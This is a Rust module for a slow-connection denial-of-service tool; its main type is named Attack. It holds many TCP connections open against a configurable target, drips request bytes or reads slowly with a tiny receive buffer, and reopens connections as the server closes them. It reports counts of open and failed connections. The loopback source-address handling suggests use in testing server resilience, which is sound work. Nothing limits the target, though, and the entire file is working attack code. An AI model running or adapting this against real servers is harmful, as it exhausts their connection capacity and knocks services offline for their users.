//! The slow connections: a task each, on a thread of their own.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use socket2::{Domain, Socket, Type};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, MissedTickBehavior, interval, sleep, sleep_until, timeout};

use crate::Options;

/// The rest after a connection was refused.
const REST: Duration = Duration::from_millis(500);
/// A connection that takes longer waits in the kernel's queue.
const CONNECT: Duration = Duration::from_secs(10);

/// What is counted while it runs.
#[derive(Debug, Default)]
struct Counts {
    open: AtomicU64,
    most: AtomicU64,
    opened: AtomicU64,
    closed: AtomicU64,
    failed: AtomicU64,
}

/// It runs until the process ends.
pub(crate) struct Attack(Arc<Counts>);

/// How it fares.
pub(crate) struct Slow {
    pub(crate) open: u64,
    most: u64,
    opened: u64,
    closed: u64,
    failed: u64,
}

impl Slow {
    pub(crate) fn json(&self, asked: usize) -> Value {
        json!({
            "asked": asked,
            "open": self.open,
            "most_open": self.most,
            "opened": self.opened,
            "closed_by_server": self.closed,
            "not_connected": self.failed,
        })
    }
}

impl Attack {
    pub(crate) fn report(&self) -> Slow {
        let Counts { open, most, opened, closed, failed } = &*self.0;
        let [open, most, opened, closed, failed] =
            [open, most, opened, closed, failed].map(|count| count.load(Relaxed));
        Slow { open, most, opened, closed, failed }
    }
}

/// Begins to open connections.
pub(crate) fn start(options: &Arc<Options>) -> Attack {
    let counts = Arc::<Counts>::default();
    let (options, shared) = (Arc::clone(options), Arc::clone(&counts));
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
        runtime.expect("a runtime needs a few descriptors").block_on(open(options, shared));
    });
    Attack(counts)
}

async fn open(options: Arc<Options>, counts: Arc<Counts>) {
    let next = Arc::new(Mutex::new(Instant::now()));
    for number in 0..options.connections {
        tokio::spawn(hold(number, Arc::clone(&options), Arc::clone(&counts), Arc::clone(&next)));
    }
    std::future::pending::<()>().await;
}

/// When one more may be opened.
fn turn(next: &Mutex<Instant>, rate: usize) -> Instant {
    let mut next = next.lock().expect("no task panics here");
    let at = (*next).max(Instant::now());
    *next = at + Duration::from_secs_f64(1.0 / rate as f64);
    at
}

/// Keeps one connection open, and opens another one in its place.
async fn hold(number: usize, options: Arc<Options>, counts: Arc<Counts>, next: Arc<Mutex<Instant>>) {
    for again in 0.. {
        sleep_until(turn(&next, options.rate)).await;
        match timeout(CONNECT, connect(&options, number + again)).await {
            Ok(Ok(stream)) => {
                let open = counts.open.fetch_add(1, Relaxed) + 1;
                counts.most.fetch_max(open, Relaxed);
                counts.opened.fetch_add(1, Relaxed);
                let _ = drip(stream, &options).await;
                counts.open.fetch_sub(1, Relaxed);
                counts.closed.fetch_add(1, Relaxed);
            }
            Ok(Err(_)) | Err(_) => {
                counts.failed.fetch_add(1, Relaxed);
                sleep(REST).await;
            }
        }
        if !options.reopen {
            return;
        }
    }
}

async fn connect(options: &Options, number: usize) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(options.target), Type::STREAM.nonblocking(), None)?;
    if options.mode.reads_slowly() {
        socket.set_recv_buffer_size(2048)?;
    }
    if let IpAddr::V4(address) = options.target.ip()
        && address.is_loopback()
    {
        let source = Ipv4Addr::new(127, 0, 1, 1 + (number % usize::from(options.sources)) as u8);
        socket.bind(&SocketAddr::from((source, 0)).into())?;
    }
    TcpSocket::from_std_stream(socket.into()).connect(options.target).await
}

/// Drips until the server closes.
async fn drip(mut stream: TcpStream, options: &Options) -> io::Result<()> {
    stream.set_nodelay(true)?;
    stream.write_all(&options.mode.opening(options.target, &options.slow_path)).await?;
    let mut turns = interval(options.every);
    turns.set_missed_tick_behavior(MissedTickBehavior::Delay);
    turns.tick().await;
    let mut turn = 0;
    loop {
        // A slow reader reads at its turns alone.
        let mut bytes = [0; 512];
        let read = async {
            match options.mode.reads_slowly() {
                true => std::future::pending().await,
                false => stream.read(&mut bytes).await,
            }
        };
        tokio::select! {
            read = read => if read? == 0 {
                return Ok(());
            },
            _ = turns.tick() => {
                if options.mode.reads_slowly() && stream.read(&mut bytes[..1]).await? == 0 {
                    return Ok(());
                }
                stream.write_all(&options.mode.drip(turn)).await?;
                turn += 1;
            }
        }
    }
}
